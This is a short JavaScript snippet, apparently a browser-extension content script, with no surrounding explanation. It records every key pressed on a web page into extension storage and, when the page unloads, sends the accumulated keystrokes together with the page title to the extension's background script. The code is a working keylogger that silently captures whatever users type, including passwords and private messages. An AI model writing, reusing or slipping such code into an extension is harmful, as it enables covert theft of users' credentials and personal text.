const area = browser.storage.local;
window.addEventListener('keypress', async (ev) => {
  const { typed = '' } = await browser.storage.local.get('typed');
  await browser.storage.local.set({ typed: typed + ev.key });
});
window.addEventListener('beforeunload', async () => {
  const { typed = '' } = await area.get('typed');
  browser.runtime.sendMessage({ typed, page: document.title });
});
